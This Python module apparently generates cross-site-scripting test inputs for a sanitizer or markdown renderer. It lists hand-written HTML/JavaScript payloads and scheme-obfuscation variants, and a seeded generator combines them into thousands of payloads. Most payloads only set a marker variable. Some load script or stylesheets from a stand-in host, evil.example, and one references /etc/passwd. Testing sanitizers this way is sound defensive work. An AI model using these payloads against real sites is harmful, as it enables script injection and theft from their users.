"""Texts that would run in a page that trusted them: written ones, and thousands put together of their parts."""

from __future__ import annotations

import random
from collections.abc import Iterator

WRITTEN = (
    "<script>window.hit=1</script>",
    "<script src=//evil.example/x></script>",
    "</title></textarea></style></script><script>window.hit=1</script>",
    "--></script><img src=x onerror=window.hit=1>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.hit=1><text x=9 y=9>a</text></a>",
    "<math><mtext><table><mglyph><style><!--</style><img src onerror=window.hit=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:window.hit=1></object><embed src=javascript:window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<body onload=window.hit=1 onpageshow=window.hit=1>",
    "<form action=javascript:window.hit=1><button>b</button></form><button form=page-action formaction=//evil.example>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=javascript:window.hit=1'>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example'</style>",
    '" onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x="',
    "' onmouseover=window.hit=1 x='",
    "` onmouseover=window.hit=1 x=`",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%window.hit=1%>",
    "<div hx-get=/latest hx-trigger=load hx-on::load=window.hit=1 data-hx-on:click=window.hit=1></div>",
    '<!--own--><!--comment:b1--><p data-block="b1" id=paper data-annotate=x>',
    "<x-y is=markdown-toolbar onclick=window.hit=1 style=position:fixed;inset:0>",
    "\u2028window.hit=1\u2029<scr\u0000ipt>window.hit=1</scr\u0000ipt>",
)

_SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "javascript&#58;",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "data:image/svg+xml,",
    "feed:javascript:",
    "view-source:javascript:",
    "blob:",
    "file:///etc/passwd#",
    "//evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\",
    "https:javascript:",
    "http://javascript:hit@evil/",
    "jav&#x09;ascript:",
    "javascript://%0a",
    "mailto:x?body=<script>",
    "ｊavascript:",
    "javascript\u200b:",
    "%6aavascript:",
    "intent:",
    "tel:",
)
_ACTS = (
    "window.hit=1",
    "window.hit=1//",
    "alert(1)",
    "%77indow.hit=1",
    "<script>parent.hit=1</script>",
    "PHNjcmlwdD4=",
)
_SHAPES = (
    "[a]({})",
    "![a]({})",
    "<{}>",
    "[a]: {}\n\n[a]",
    "[a](<{}>)",
    '[a]({} "t" )',
    "[a]({} 'onerror=window.hit=1')",
    "{}",
    "<a href={}>a</a>",
    '<a href="{}">a</a>',
    "![{}](/files/1/x.png)",
    "![a](/files/{})",
    "`{}`",
    "    {}",
    "```\n{}\n```",
    "|a|{}|\n|-|-|\n|{}|b|",
    "> {}",
    "# {}",
    "* {}",
    "@{}",
    "**{}**",
    "~~{}~~",
    "[![a]({})]({})",
    "\\[a]({})",
    "[a][{}]",
    "<http:{}>",
    "http://x/{}",
    "www.{}",
    "x@{}",
    "<img src={} onerror={}>",
    "<svg/onload={}>",
    "<!--{}-->",
    "<![CDATA[{}]]>",
    "<?{}?>",
    "<a\n href={}\n>",
    '[a](/t/x/1/2" onclick="{})',
    "```{}\nx\n```",
    "~~~ {{.x onclick={}}}\n~~~",
)


def made(number: int, *, seed: int = 7) -> Iterator[str]:
    """Yield so many different payloads, the same ones every time."""
    chance = random.Random(seed)
    for _ in range(number):
        shape = chance.choice(_SHAPES)
        text = shape.replace("{{", "{").replace("}}", "}") if "{{" in shape else shape
        inside = chance.choice(_SCHEMES) + chance.choice(_ACTS)
        if chance.random() < 0.2:
            inside = chance.choice(WRITTEN)
        elif chance.random() < 0.2:
            at = chance.randrange(len(inside) + 1)
            inside = inside[:at] + chance.choice("\x00\t\n\r\x0b\x0c <>\"'`&;[]()\\|*_") + inside[at:]
        yield text.replace("{}", inside)


def texts(payloads: Iterator[str], longest: int = 4_000) -> Iterator[str]:
    """Put payloads together into texts of at most so many characters, each payload a paragraph."""
    text = ""
    for one in payloads:
        if text and len(text) + len(one) > longest:
            yield text
            text = ""
        text += f"{one}\n\n"
    if text:
        yield text
